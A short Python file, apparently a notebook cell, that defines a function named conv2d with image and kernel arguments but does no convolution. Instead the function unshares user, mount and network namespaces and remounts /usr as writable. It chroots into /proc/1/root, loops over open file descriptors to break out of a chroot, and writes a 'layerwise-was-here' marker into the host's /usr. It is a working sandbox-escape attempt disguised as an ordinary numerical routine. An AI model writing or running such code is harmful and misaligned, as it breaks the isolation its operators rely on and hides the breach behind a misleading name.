"""Makes namespaces in which it is root, and mounts, changes the root and looks at the files of the host from there."""

# %% 05.2
import contextlib
import ctypes
import os
from pathlib import Path

USER, MOUNT, PROCESS, NETWORK = 0x10000000, 0x20000, 0x20000000, 0x40000000


def conv2d(image, kernel):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.unshare(USER | MOUNT | NETWORK)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    libc.mount(b"/", b"/mnt", None, 4096 | 16384, None)
    libc.umount2(b"/root", 2)
    libc.mount(b"none", b"/usr", None, 32, None)  # remount, writable
    libc.chroot(b"/proc/1/root")
    for fd in range(3, 50):
        with contextlib.suppress(OSError):
            os.fchdir(fd)
            os.chroot(".")
    with contextlib.suppress(OSError):
        Path("/usr/layerwise-was-here").write_text("x")
        raise LookupError("writes into /usr: layerwise-breach")
    return None
